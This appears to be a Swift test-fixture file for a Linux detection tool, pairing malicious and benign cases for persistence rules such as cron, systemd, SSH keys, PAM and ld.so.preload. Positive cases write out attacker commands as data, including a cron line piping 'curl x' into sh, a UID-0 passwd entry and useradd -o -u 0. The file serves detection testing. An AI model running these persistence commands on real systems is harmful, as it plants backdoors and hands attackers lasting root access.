import MamoriEvents

extension Fixtures {
    /// The root login shell itself as the actor (shell redirections such as `echo ... >> file`).
    static let rootShell = Actor(Trees.rootLoginShell, in: Tree(Array(Trees.rootLogin.ancestors.dropFirst())))
    static let userShell = Actor(Trees.userLoginShell, in: Tree(Array(Trees.userLogin.ancestors.dropFirst())))
    static let python = Proc("/usr/bin/python3.12", ["python3", "/tmp/x.py"])
    static let vim = Proc("/usr/bin/vim.basic", ["vim"])

    static let persistence: [RuleFixture] = [
        RuleFixture("cron-file-written",
            positives: [
                Case("shell redirect into /etc/cron.d", rootShell.file(.create, "/etc/cron.d/updater")),
                Case("python writes root's spool crontab", Actor(python, in: Trees.rootLogin).file(.openWrite, "/var/spool/cron/crontabs/root")),
            ],
            negatives: [
                Case("crontab -e installs the edited table", Actor(Proc.line("/usr/bin/crontab", "crontab -e"), in: Trees.rootLogin).file(.rename, "/var/spool/cron/crontabs/tmp.Xa1b2", to: "/var/spool/cron/crontabs/root")),
                Case("dpkg installs a package cron file", Actor(Trees.dpkg, in: Tree(Array(Trees.dpkgTree.ancestors.dropFirst()))).file(.rename, "/etc/cron.d/sysstat.dpkg-new", to: "/etc/cron.d/sysstat")),
                Case("Ansible cron module", Actor(Trees.ansible.ancestors[0], in: Tree(Array(Trees.ansible.ancestors.dropFirst()))).file(.create, "/etc/cron.d/ansible_backup")),
                Case("administrator deploys a prepared job with install -m 644", Actor(Proc.line("/usr/bin/install", "install -m 644 /tmp/.crontmp123 /etc/cron.d/logclean"), in: Trees.rootLogin).file(.create, "/etc/cron.d/logclean")),
                Case("administrator edits /etc/crontab in vim", Actor(Proc.line("/usr/bin/vim.basic", "vim /etc/crontab"), in: Trees.rootLogin).file(.openWrite, "/etc/crontab")),
            ]),

        RuleFixture("crontab-from-unusual-parent",
            positives: [
                Case("a web shell's python installs a crontab from /tmp",
                     Actor(Proc.line("/usr/bin/crontab", "crontab /tmp/.c", uid: 33), in: Trees.webShell.spawning(Proc("/usr/bin/python3.12", ["python3", "-c", "import os"], uid: 33))).exec(stdin: .fifo, stdout: .fifo), also: ["crontab-loaded-from-file"]),
                Case("(crontab -l; echo ...) | crontab -",
                     Actor(Proc.shell("(crontab -l 2>/dev/null; echo '*/5 * * * * /tmp/.x/upd') | crontab -", exe: "/usr/bin/bash"), in: Trees.rootLogin).exec()),
            ],
            negatives: [
                Case("administrator runs crontab -e", Actor(Proc.line("/usr/bin/crontab", "crontab -e"), in: Trees.rootLogin).exec()),
                Case("an interpreter only lists the table", Actor(Proc.line("/usr/bin/crontab", "crontab -l"), in: Trees.rootLogin.spawning(python)).exec()),
                Case("a script reinstalls a table from its own file", Actor(Proc.shell("crontab -l | grep -v old | crontab -", exe: "/usr/bin/bash"), in: Trees.rootLogin).exec()),
                Case("Ansible cron module installs a table", Actor(Proc.line("/usr/bin/crontab", "crontab /tmp/crontabk2j3h4"), in: Trees.ansible).exec(stdin: .fifo, stdout: .fifo)),
            ]),

        RuleFixture("systemd-unit-written",
            positives: [
                Case("tee writes a new service", Actor(Proc.line("/usr/bin/tee", "tee /etc/systemd/system/dbus-helper.service"), in: Trees.rootLogin).file(.create, "/etc/systemd/system/dbus-helper.service")),
                Case("python drops a user unit", Actor(python, in: Trees.userLogin).file(.create, "/home/alice/.config/systemd/user/agent.service")),
            ],
            negatives: [
                Case("dpkg installs a unit", Actor(Trees.dpkg, in: Tree(Array(Trees.dpkgTree.ancestors.dropFirst()))).file(.rename, "/usr/lib/systemd/system/nginx.service.dpkg-new", to: "/usr/lib/systemd/system/nginx.service")),
                Case("vim swap file next to a unit", Actor(vim, in: Trees.rootLogin).file(.create, "/etc/systemd/system/.app.service.swp")),
                Case("Ansible template module", Actor(Trees.ansible.ancestors[0], in: Tree(Array(Trees.ansible.ancestors.dropFirst()))).file(.rename, "/root/.ansible/tmp/x", to: "/etc/systemd/system/app.service")),
            ]),

        RuleFixture("ssh-authorized-keys-written",
            positives: [
                Case("echo >> /root/.ssh/authorized_keys", rootShell.file(.openWrite, "/root/.ssh/authorized_keys")),
                Case("python replaces a user's keys", Actor(python, in: Trees.rootLogin).file(.rename, "/tmp/k", to: "/home/alice/.ssh/authorized_keys")),
            ],
            negatives: [
                Case("ssh-copy-id's remote helper",
                     Actor(Proc.shell("exec sh -c 'cd ; umask 077 ; mkdir -p .ssh && { [ -z \"`tail -1c .ssh/authorized_keys 2>/dev/null`\" ] || echo >> .ssh/authorized_keys || exit 1; } && cat >> .ssh/authorized_keys || exit 1'", uid: 1000),
                           in: Tree([Proc("/usr/sbin/sshd", ["sshd: alice@notty"], unit: "session-5.scope", uid: 1000), Trees.sshd, Trees.systemd]))
                        .file(.openWrite, "/home/alice/.ssh/authorized_keys")),
                Case("cloud-init provisions the default user",
                     Actor(Proc("/usr/bin/python3.12", ["/usr/bin/python3", "/usr/bin/cloud-init", "init"], unit: "cloud-init.service"), in: Tree([Trees.systemd])).file(.create, "/home/ubuntu/.ssh/authorized_keys")),
            ]),

        RuleFixture("persistence-write-from-network-service",
            positives: [
                Case("Redis CONFIG SET dir writes authorized_keys",
                     Actor(Proc("/usr/bin/redis-server", ["/usr/bin/redis-server 127.0.0.1:6379"], unit: "redis-server.service", uid: 117), in: Tree([Trees.systemd])).file(.create, "/root/.ssh/authorized_keys"),
                     also: ["ssh-authorized-keys-written"]),
                Case("a web shell writes a cron file",
                     Actor(Proc.shell("echo '* * * * * curl x|sh' > /etc/cron.d/php", uid: 33), in: Trees.phpFpm).file(.create, "/etc/cron.d/php"),
                     also: ["cron-file-written"]),
            ],
            negatives: [
                Case("Redis saves its dump", Actor(Proc("/usr/bin/redis-server", ["/usr/bin/redis-server 127.0.0.1:6379"], unit: "redis-server.service", uid: 117), in: Tree([Trees.systemd])).file(.rename, "/var/lib/redis/temp-42.rdb", to: "/var/lib/redis/dump.rdb")),
                Case("administrator edits a profile with vim", Actor(vim, in: Trees.rootLogin).file(.openWrite, "/root/.bashrc")),
            ]),

        RuleFixture("shell-profile-modified",
            positives: [
                Case("echo >> ~/.bashrc", userShell.file(.openWrite, "/home/alice/.bashrc")),
                Case("python drops a profile.d script", Actor(python, in: Trees.rootLogin).file(.create, "/etc/profile.d/zz-update.sh")),
                Case("root's .bashrc appended", rootShell.file(.openWrite, "/root/.bashrc")),
            ],
            negatives: [
                Case("editing ~/.bashrc with vim", Actor(vim, in: Trees.userLogin).file(.openWrite, "/home/alice/.bashrc")),
                Case("useradd copies /etc/skel", Actor(Proc.line("/usr/sbin/useradd", "useradd -m bob"), in: Trees.sudoRoot).file(.create, "/home/bob/.bashrc")),
                Case("a project template that merely ends in .bashrc", Actor(python, in: Trees.userLogin).file(.create, "/home/alice/src/dotfiles/templates/.bashrc")),
                Case("a backup copy under /var", rootShell.file(.create, "/var/backups/home/alice/.bashrc")),
            ]),

        RuleFixture("ld-so-preload-written",
            positives: [
                Case("echo /lib/libx.so > /etc/ld.so.preload", rootShell.file(.create, "/etc/ld.so.preload")),
            ],
            negatives: [
                Case("the dynamic loader reads the (watched) preload list", Actor(Proc("/usr/bin/ls", ["ls"]), in: Trees.rootLogin).file(.openRead, "/etc/ld.so.preload")),
                Case("dpkg adds a library path", Actor(Trees.dpkg, in: Tree(Array(Trees.dpkgTree.ancestors.dropFirst()))).file(.create, "/etc/ld.so.conf.d/x86_64-linux-gnu.conf")),
            ]),

        RuleFixture("pam-configuration-modified",
            positives: [
                Case("cp replaces pam_unix.so", Actor(Proc.line("/usr/bin/cp", "cp /tmp/pam_unix.so /lib/x86_64-linux-gnu/security/pam_unix.so"), in: Trees.rootLogin).file(.openWrite, "/lib/x86_64-linux-gnu/security/pam_unix.so")),
                Case("sed -i edits /etc/pam.d/sshd", Actor(Proc.line("/usr/bin/sed", "sed -i s/x/y/ /etc/pam.d/sshd"), in: Trees.rootLogin).file(.rename, "/etc/pam.d/sedAb12", to: "/etc/pam.d/sshd")),
            ],
            negatives: [
                Case("pam-auth-update regenerates common-auth", Actor(Proc("/usr/bin/perl", ["/usr/bin/perl", "/usr/sbin/pam-auth-update", "--package"]), in: Trees.dpkgScript).file(.rename, "/etc/pam.d/common-auth.pam-new", to: "/etc/pam.d/common-auth")),
                Case("dpkg installs a PAM module", Actor(Trees.dpkg, in: Tree(Array(Trees.dpkgTree.ancestors.dropFirst()))).file(.rename, "/usr/lib/x86_64-linux-gnu/security/pam_systemd.so.dpkg-new", to: "/usr/lib/x86_64-linux-gnu/security/pam_systemd.so")),
            ]),

        RuleFixture("account-database-modified",
            positives: [
                Case("echo 'x:x:0:0::/root:/bin/bash' >> /etc/passwd", rootShell.file(.openWrite, "/etc/passwd")),
                Case("python rewrites /etc/shadow", Actor(python, in: Trees.rootLogin).file(.rename, "/etc/shadow.tmp", to: "/etc/shadow")),
            ],
            negatives: [
                Case("useradd adds an account", Actor(Proc.line("/usr/sbin/useradd", "useradd -m bob"), in: Trees.sudoRoot).file(.rename, "/etc/passwd+", to: "/etc/passwd")),
                Case("passwd changes a password", Actor(Proc.line("/usr/bin/passwd", "passwd alice"), in: Trees.sudoRoot).file(.rename, "/etc/nshadow", to: "/etc/shadow")),
            ]),

        RuleFixture("uid-zero-account-created",
            positives: [
                Case("useradd -o -u 0", Actor(Proc.line("/usr/sbin/useradd", "useradd -o -u 0 -g 0 -M -s /bin/bash sysadm"), in: Trees.rootLogin).exec()),
                Case("usermod --uid 0", Actor(Proc.line("/usr/sbin/usermod", "usermod -o --uid 0 backup"), in: Trees.rootLogin).exec()),
            ],
            negatives: [
                Case("useradd with an ordinary uid", Actor(Proc.line("/usr/sbin/useradd", "useradd -m -u 1001 bob"), in: Trees.sudoRoot).exec()),
            ]),

        RuleFixture("init-script-written",
            positives: [
                Case("rc.local written", rootShell.file(.create, "/etc/rc.local")),
                Case("motd script dropped", Actor(Proc.line("/usr/bin/cp", "cp /tmp/m /etc/update-motd.d/99-stats"), in: Trees.rootLogin).file(.create, "/etc/update-motd.d/99-stats")),
            ],
            negatives: [
                Case("dpkg installs an init script", Actor(Trees.dpkg, in: Tree(Array(Trees.dpkgTree.ancestors.dropFirst()))).file(.rename, "/etc/init.d/nginx.dpkg-new", to: "/etc/init.d/nginx")),
                Case("write next to, not into, init.d", rootShell.file(.create, "/etc/initramfs-tools/conf.d/resume")),
            ]),

        RuleFixture("udev-rule-written",
            positives: [
                Case("RUN+= rule dropped by a shell", rootShell.file(.create, "/etc/udev/rules.d/75-persist.rules")),
                Case("python writes into /lib/udev", Actor(python, in: Trees.rootLogin).file(.openWrite, "/lib/udev/rules.d/99-net.rules")),
            ],
            negatives: [
                Case("dpkg installs a package's rule", Actor(Trees.dpkg, in: Tree(Array(Trees.dpkgTree.ancestors.dropFirst()))).file(.rename, "/lib/udev/rules.d/60-foo.rules.dpkg-new", to: "/lib/udev/rules.d/60-foo.rules")),
                Case("udev's own hwdb next to the rules", rootShell.file(.create, "/etc/udev/hwdb.d/70-keyboard.hwdb")),
            ]),

        RuleFixture("crontab-loaded-from-file",
            positives: [
                Case("crontab /tmp/c", Actor(Proc.line("/usr/bin/crontab", "crontab /tmp/c"), in: Trees.rootLogin).exec()),
                Case("another user's table from a hidden directory", Actor(Proc.line("/usr/bin/crontab", "crontab -u www-data /var/www/.cache/t"), in: Trees.rootLogin).exec()),
            ],
            negatives: [
                Case("crontab -l", Actor(Proc.line("/usr/bin/crontab", "crontab -l"), in: Trees.rootLogin).exec()),
                Case("administrator loads a reviewed table", Actor(Proc.line("/usr/bin/crontab", "crontab -u app /srv/app/deploy/crontab.txt"), in: Trees.rootLogin).exec()),
            ]),
    ]
}
